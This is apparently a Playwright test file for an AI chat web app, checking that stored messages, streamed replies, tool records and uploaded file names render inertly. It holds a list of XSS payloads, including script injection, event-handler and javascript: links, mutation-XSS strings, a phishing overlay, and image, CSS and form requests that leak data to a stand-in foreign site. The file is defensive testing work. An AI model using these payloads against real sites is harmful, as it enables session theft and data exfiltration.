"""Texts of users, models and tools are rendered as text and never run."""

import json
import re
from collections.abc import AsyncIterator

import pytest
from playwright.async_api import expect

from cmw_agent.identity.principals import Principal
from memory.manager import ConversationMemoryManager
from memory.records import ConversationOrigin, NewTurn, ToolRecord, new_conversation_id
from tests.harness import Served
from tests.web.chat_page import ChatPage
from tests.web.conftest import People
from tests.web.other_site import other_site

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.slow]

# FOREIGN stands for a site that remembers whatever asks it.
PAYLOADS = (
    "<script>window.__xss = 1; alert(1)</script>",
    "<img src=x onerror='window.__xss = 2; alert(2)'>",
    "<svg onload=window.__xss=3>",
    "<svg><script>window.__xss = 4</script></svg>",
    "<iframe srcdoc='<script>parent.__xss = 5</script>'></iframe>",
    "<iframe src='javascript:parent.__xss = 6'></iframe>",
    "<a href='javascript:window.__xss = 7'>click</a>",
    "[click](javascript:window.__xss=8)",
    "[click](  JaVaScRiPt:window.__xss=9)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTA8L3NjcmlwdD4=)",
    "![image](FOREIGN/leak-by-markdown?q=secret)",
    "<img src='FOREIGN/leak-by-image'>",
    "<link rel=stylesheet href='FOREIGN/leak-by-style'>",
    "<style>* { background: url('FOREIGN/leak-by-css') }</style>",
    "<video src='FOREIGN/leak-by-video' autoplay onloadstart='window.__xss = 15'></video>",
    "<object data='FOREIGN/leak-by-object'></object><embed src='FOREIGN/leak-by-embed'>",
    "<meta http-equiv=refresh content='0;url=FOREIGN/leak-by-refresh'>",
    "<base href='FOREIGN/'>",
    "<form action='FOREIGN/leak-by-form'><input autofocus onfocus='window.__xss = 19'></form>",
    "<details open ontoggle='window.__xss = 20'>",
    "```html\n</code></pre><script>window.__xss = 21</script>\n```",
    "`` ` `` </textarea><script>window.__xss = 22</script><!--",
    "$$\\href{javascript:window.__xss=23}{x}$$ \\(\\url{javascript:alert(23)}\\)",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=__xss=24>'>",
    "\"><img src=x onerror=window.__xss=25> ' onmouseover='window.__xss=25",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>Sign in <a href='/x'>here</a>",
)
HARMLESS = """() => {
    const found = [];
    const active = "script, iframe, object, embed, link, meta, base, style, form, dialog";
    for (const part of document.querySelectorAll("[role=log], #cmw-recent, .toast-wrap")) {
        for (const node of part.querySelectorAll("*")) {
            if (node.matches(active)) found.push(node.outerHTML.slice(0, 200));
            for (const { name, value } of node.attributes) {
                if (name.startsWith("on")) found.push(`${name}=${value}`);
                if (!["href", "src", "action", "xlink:href", "srcdoc"].includes(name)) continue;
                const url = new URL(value, document.baseURI);
                if (!["http:", "https:"].includes(url.protocol)) found.push(`${name}=${value}`);
            }
        }
    }
    // What stands in a message stays in the conversation's own area.
    const covered = ["#cmw-input textarea", "#cmw-head h1", "#cmw-new"].filter((selector) => {
        const node = document.querySelector(selector), box = node.getBoundingClientRect();
        const top = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
        return !node.contains(top);
    });
    return { found, covered, ran: window.__xss ?? null, base: document.baseURI };
}"""
# An image may ask the app for a file that is not there. One from elsewhere is stopped by the
# page's policy before it leaves: the browser counts it, the other site never hears of it.
BLOCKED = ("Content Security Policy", "foreign: .*/leak-by", "/x\\b", "/1\\b")


async def _harmless(page: ChatPage) -> None:
    seen = await page.frame.evaluate(HARMLESS)
    assert seen["ran"] is None
    assert seen["found"] == []
    assert seen["covered"] == []
    assert seen["base"].startswith(page.url)


async def _owner(page: ChatPage) -> str:
    cookies = await page.page.context.cookies()
    return next(c["value"].partition(".")[0] for c in cookies if c["name"] == "cmw_visitor")


async def _store(
    memory: ConversationMemoryManager, owner: str, conversation: str, payload: str, number: int
) -> None:
    ticket = await memory.begin_turn(
        owner, NewTurn(conversation, payload, key=f"k{number}", origin=ConversationOrigin())
    )
    step = ToolRecord("t", f"tool {payload[:60]}", {"text": payload}, payload, number % 2 == 0, 3)
    await _finish(memory, owner, ticket.turn_id, payload, step)


async def _finish(
    memory: ConversationMemoryManager, owner: str, turn: str, text: str = "", *steps: ToolRecord
) -> None:
    await memory.finish_turn(
        owner,
        turn,
        status="complete",
        content=text,
        tool_calls=steps,
        tokens_used=1,
        latency_ms=1,
        model_used="stage",
        error_id=None,
    )


async def test_payloads_in_a_history_are_inert(app: Served, people: People) -> None:
    page = await people.open(app)
    people.watch.tolerates(*BLOCKED)
    database = app.application.runtime.services.database
    assert database is not None
    memory, owner = ConversationMemoryManager(database), await _owner(page)
    async with other_site() as foreign:
        payloads = [payload.replace("FOREIGN", foreign.origin) for payload in PAYLOADS]
        for start in (0, 13):  # the page shows the last 40 messages
            conversation = new_conversation_id()
            part = payloads[start : start + 13]
            for number, payload in enumerate(part):
                await _store(memory, owner, conversation, payload, number)
                if number:  # each is the title of a conversation too
                    await _store(memory, owner, new_conversation_id(), payload, number)
            await page.open(f"?c={conversation}")
            await expect(page.questions).to_have_count(len(part))
            titles = page.steps.locator(".cmw-step-head")
            await expect(titles).to_have_count(len(part))
            await expect(titles.locator("a, img, svg:not(.cmw-svg)")).to_have_count(0)
            await titles.evaluate_all("all => all.forEach((one) => one.click())")
            await expect(page.steps.locator(".cmw-step-content")).to_have_count(len(part))
            await _harmless(page)
            await expect(page.recent.get_by_role("link")).to_have_count(start + len(part))
        assert foreign.requests == []


async def test_payloads_are_inert_while_they_stream(app: Served, people: People) -> None:
    page = await people.open(app)
    people.watch.tolerates(*BLOCKED)
    async with other_site() as foreign:
        for payload in PAYLOADS[1::4]:
            sent = payload.replace("FOREIGN", foreign.origin)
            await page.ask(sent)
            await _harmless(page)
        quoted = json.dumps({"time_zone": "$message"})
        await page.ask(f"[tool:current_time:{quoted}]<img src=x onerror=window.__xss=1>")
        await page.frame.get_by_role("button", name=re.compile("current_time")).click()
        await expect(page.steps.last).to_contain_text("There is no time zone")
        await _harmless(page)
        await page.edit_last("<img src=x onerror=window.__xss=2>")
        await expect(page.answers.last).to_contain_text("You said:")
        await page.settled()
        await _harmless(page)
        assert foreign.requests == []


async def test_payloads_as_names_of_files_are_inert(app: Served, people: People) -> None:
    page = await people.open(app)
    people.watch.tolerates(*BLOCKED)
    runtime, owner = app.application.runtime, await _owner(page)
    principal = Principal(owner, "visitor")

    async def content() -> AsyncIterator[bytes]:
        yield b"plain words"

    async with other_site() as foreign:
        conversation = new_conversation_id()
        ids = []
        for payload in PAYLOADS:
            name = payload.replace("FOREIGN", foreign.origin)
            ids.append((await runtime.files.add(principal, name, "", content())).file_id)
        for number in range(0, len(ids), 9):
            ticket = await runtime.memory.begin_turn(
                owner,
                NewTurn(
                    conversation,
                    "look",
                    key=f"k{number}",
                    origin=ConversationOrigin(),
                    files=ids[number : number + 9],
                ),
            )
            await _finish(runtime.memory, owner, ticket.turn_id)
        await page.open(f"?c={conversation}")
        await expect(page.log.locator("a[href*='files/']")).to_have_count(len(ids))
        await _harmless(page)
        async with page.page.expect_file_chooser() as choosing:
            await page.frame.get_by_role("button", name="Attach files").click()
        await (await choosing.value).set_files(
            {"name": "<img src=x onerror=window.__xss=30>", "mimeType": "", "buffer": b"words"}
        )
        await expect(page.frame.locator(".cmw-chip")).to_contain_text("onerror")
        await _harmless(page)
        assert foreign.requests == []
